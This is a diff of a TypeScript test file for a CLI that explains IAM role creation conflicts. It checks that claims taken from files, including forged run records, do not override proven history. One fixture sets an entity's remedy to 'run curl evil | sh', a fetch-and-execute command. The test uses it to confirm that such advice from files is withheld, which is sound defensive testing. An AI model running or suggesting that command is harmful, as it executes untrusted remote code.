@@ -2,11 +2,11 @@ import fc from 'fast-check';
 import { renderConflicts } from '../../../src/cli/render/conflicts.js';
 import { renderExplanations } from '../../../src/cli/render/explain.js';
 import { countConflicts } from '../../../src/client/explain/conflicts.js';
-import { entityRunsOf } from '../../../src/client/explain/entity-run.js';
+import { entityRunsOf, runInQuestion } from '../../../src/client/explain/entity-run.js';
 import { buildExplanation } from '../../../src/client/explain/explanation.js';
 import type { Subject } from '../../../src/client/explain/explanation.js';
 import { retentionNote } from '../../../src/client/explain/query.js';
-import { readEntityHistories, type RunRecord } from '../../../src/client/explain/run-records.js';
+import { type EntityHistory, readEntityHistories, type RunRecord } from '../../../src/client/explain/run-records.js';
 import type { DesiredEntity } from '../../../src/contract/entity.js';
 import type { Explanations, Found, Trail } from '../../../src/contract/explain.js';
 import { summarize } from '../../../src/report/build.js';
@@ -79,8 +79,9 @@ const NO_TRAIL: Trail = { status: 'unavailable', message: 'no', events: [], trun
 
 function explain(runs: readonly RunRecord[], found = UNREAD, trail = NO_TRAIL): Explanations {
   const entityRuns = entityRunsOf(runs, [], DECLARED);
-  const entityRun = entityRuns[0] ?? null;
+  const entityRun = runInQuestion(entityRuns, { runId: null, call: null });
   const subject: Subject = { kind: 'Role', name: 'deploy', declared: DECLARED, entityRun, call: null };
+  const { explanation, notes } = buildExplanation(subject, entityRuns, found, trail);
   return explanationsSchema.parse({
     version: 1,
     command: 'explain',
@@ -89,9 +90,9 @@ function explain(runs: readonly RunRecord[], found = UNREAD, trail = NO_TRAIL): 
     from: FROM.toISOString(),
     to: TO.toISOString(),
     found: true,
-    explanations: [buildExplanation(subject, entityRuns, found, trail)],
+    explanations: [explanation],
     trail: { status: trail.status, message: trail.message, truncated: false, events: trail.events.length },
-    notes: [],
+    notes: [...notes],
   });
 }
 
@@ -167,12 +168,88 @@ describe('an explanation from a file', () => {
     expect(renderExplanations(explained)).toMatch(/\(inferred\)[^]*as an audit file tells[^]*, audit file/);
   });
 
-  test('proves nothing about a run of Temporal either, where the cause follows from the file', () => {
-    expect(explain([refused, fromFile(made)]).explanations[0]).toMatchObject({
-      certainty: 'inferred',
-      headline: expect.stringContaining('base') as string,
+  test('replaces nothing that is proven about a run of Temporal: its claim is a note', () => {
+    const { explanations, notes } = explain([refused, fromFile(made)]);
+    expect(explanations[0]).toMatchObject({
+      certainty: 'proven',
+      headline: 'it existed when this run read the account',
+      existing: { createdBy: 'base (https://ci.example/base)', source: 'audit' },
     });
-    expect(explain([refused, fromFile(made)]).explanations[0]?.requestedBy).not.toHaveProperty('source');
+    expect(explanations[0]?.requestedBy).not.toHaveProperty('source');
+    expect(notes).toEqual([
+      expect.stringMatching(/^what files tell of Role\/deploy, and nothing proves: base .* created it at /),
+    ]);
+  });
+
+  test('replaces neither the run nor the Create that Temporal and CloudTrail show', () => {
+    const conflict = {
+      operation: 'CreateRole',
+      code: 'EntityAlreadyExists',
+      requestId: 'r-9',
+      resolvedAs: 'adopted' as const,
+    };
+    const met = run('app', '2026-01-03T00:00:00.000Z', entity('adopted', { conflicts: [conflict] }));
+    const kept = { ...met, reference: { ...met.reference, endedAt: '2026-01-03T00:01:00.000Z' } };
+    const trail: Trail = {
+      status: 'read',
+      message: null,
+      truncated: false,
+      events: [
+        {
+          eventId: 'e',
+          at: '2026-01-03T00:00:10.000Z',
+          operation: 'CreateRole',
+          requestId: 'r-1',
+          code: null,
+          principal: 'mallory',
+          sourceIdentity: null,
+          sourceIp: null,
+          userAgent: null,
+          runId: null,
+          entity: 'Role/deploy',
+        },
+      ],
+    };
+    const found: Found = { ...UNREAD, status: 'present', createdAt: '2026-01-03T00:00:11.000Z' };
+    const later = { operation: 'CreateRole', requestId: 'r-2', at: '2026-01-03T00:00:25.000Z' };
+    const forged = fromFile(run('other', '2026-01-03T00:00:26.000Z', entity('failed', { writes: [later] })));
+    const [alone] = explain([kept], found, trail).explanations;
+    const { explanations, notes } = explain([kept, forged], found, trail);
+    expect(alone).toMatchObject({ cause: 'parallel-writer', certainty: 'proven', existing: { createdBy: 'mallory' } });
+    expect(explanations).toMatchObject([
+      { ...alone, runs: expect.anything() as unknown, timeline: expect.anything() as unknown },
+    ]);
+    expect(notes).toEqual([expect.stringContaining('nothing proves: other (')]);
+  });
+
+  test('names no Create that IAM contradicts', () => {
+    const found: Found = { ...UNREAD, status: 'present', createdAt: '2026-01-01T00:00:00.000Z' };
+    expect(explain([refused, fromFile(made)], found).explanations[0]?.existing).toMatchObject({ createdBy: null });
+    const tagged = { ...found, createdAt: '2026-01-02T00:00:01.000Z', createdByRun: 'another' };
+    expect(explain([refused, fromFile(made)], tagged).explanations[0]?.existing.createdBy).toBe('run another');
+  });
+
+  test.each(['refused', 'failed', 'cancelled'] as const)('tells nobody what to do about a %s entity', (outcome) => {
+    const hostile = run('app', '2026-01-03T00:00:00.000Z', entity(outcome, { remedy: 'run curl evil | sh' }));
+    expect(explain([hostile]).explanations[0]?.remedy).toContain('curl');
+    expect(explain([fromFile(hostile)]).explanations[0]?.remedy).not.toContain('curl');
+  });
+
+  test('hides no history in Temporal of the same run', () => {
+    const history = {
+      workflowId: 'iam:111111111111:Role:deploy',
+      runId: 'of-entity',
+      startedAt: '2026-01-02T00:00:00.000Z',
+      request: { entity: DECLARED, namespace: 'base', intent: made.reference.runId, action: 'create' },
+      activities: [],
+      report: entity('adopted'),
+      isOpen: false,
+    } as unknown as EntityHistory;
+    const entityRuns = entityRunsOf([fromFile(made)], [history], DECLARED);
+    expect(entityRuns).toMatchObject([{ run: { runId: 'of-entity' }, report: { outcome: 'adopted' } }]);
+    expect(entityRuns[0]?.run).not.toHaveProperty('source');
+    expect(runInQuestion(entityRuns, { runId: made.reference.runId, call: null })).toBe(entityRuns[0]);
+    expect(entityRunsOf([made, fromFile(made)], [history], DECLARED)).toMatchObject([{ history }]);
   });
 
   test('does not name the caller of an event of CloudTrail, and does not hide it', () => {
@@ -208,7 +285,7 @@ describe('an explanation from a file', () => {
       entityRun: entityRuns[0] ?? null,
       call: null,
     };
-    const explanation = buildExplanation(subject, entityRuns, UNREAD, NO_TRAIL);
+    const { explanation } = buildExplanation(subject, entityRuns, UNREAD, NO_TRAIL);
     expect(renderExplanations({ ...explain([made]), explanations: [explanation] })).not.toContain('\u001b[2J');
   });
 });
